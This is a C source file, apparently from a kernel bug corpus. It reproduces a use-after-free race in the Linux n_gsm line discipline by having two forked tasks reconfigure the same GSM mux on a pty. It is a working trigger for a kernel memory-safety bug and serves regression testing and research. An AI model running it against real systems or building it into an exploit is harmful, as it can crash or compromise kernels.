// SPDX-License-Identifier: GPL-2.0
/*
 * Trigger for the n_gsm race fixed by 3c4f8333b582, written for krr's bug corpus from the fix:
 * two tasks reconfigure the same GSM 07.10 mux at once. Each reconfiguration tears the mux down
 * in gsm_cleanup_mux(). The first holds the mux mutex while it waits (hundreds of milliseconds:
 * DISC retries on the control channel that the pty's far side never answers) for DLCI 0 to
 * close; the second has already read DLCI 0 and sleeps on the mutex. The first frees DLCI 0 and
 * the second, once it gets the mutex, reads the freed DLCI. The tasks interleave only at those
 * sleeping points.
 */
#include <errno.h>
#include <fcntl.h>
#include <linux/gsmmux.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#ifndef N_GSM0710
#define N_GSM0710 21
#endif

/* One reconfiguration that changes the MRU, so gsm_config() restarts the mux. */
static void reconfigure(int fd, const struct gsm_config *base, unsigned int mru, useconds_t delay)
{
	struct gsm_config c = *base;

	usleep(delay);
	c.mru = mru;
	if (ioctl(fd, GSMIOC_SETCONF, &c) < 0)
		perror("GSMIOC_SETCONF (restart)");
	_exit(0);
}

int main(void)
{
	struct gsm_config c;
	int ldisc = N_GSM0710, fd, status;

	mkdir("/dev/pts", 0755);
	if (mount("devpts", "/dev/pts", "devpts", 0, "") < 0 && errno != EBUSY)
		perror("mount devpts");
	fd = open("/dev/ptmx", O_RDWR | O_NOCTTY);
	if (fd < 0) {
		perror("open /dev/ptmx");
		return 1;
	}
	if (ioctl(fd, TIOCSETD, &ldisc) < 0) {
		perror("TIOCSETD N_GSM0710");
		return 1;
	}
	if (ioctl(fd, GSMIOC_GETCONF, &c) < 0) {
		perror("GSMIOC_GETCONF");
		return 1;
	}
	/* Initiator: the mux starts opening DLCI 0 and nobody will answer. T1 = 100 ms, N2 = 3. */
	c.initiator = 1;
	c.adaption = 1;
	c.encapsulation = 0;
	c.i = 1;
	c.k = 0;
	c.t1 = 10;
	c.n2 = 3;
	c.mru = 64;
	c.mtu = 64;
	if (ioctl(fd, GSMIOC_SETCONF, &c) < 0) {
		perror("GSMIOC_SETCONF (initiator)");
		return 1;
	}
	/* The first task waits for DLCI 0 to close while holding the mutex; the second comes later. */
	if (fork() == 0)
		reconfigure(fd, &c, 100, 0);
	if (fork() == 0)
		reconfigure(fd, &c, 120, 50000);
	while (wait(&status) > 0)
		;
	printf("no report: the kernel is not vulnerable (or the tasks did not interleave)\n");
	return 0;
}
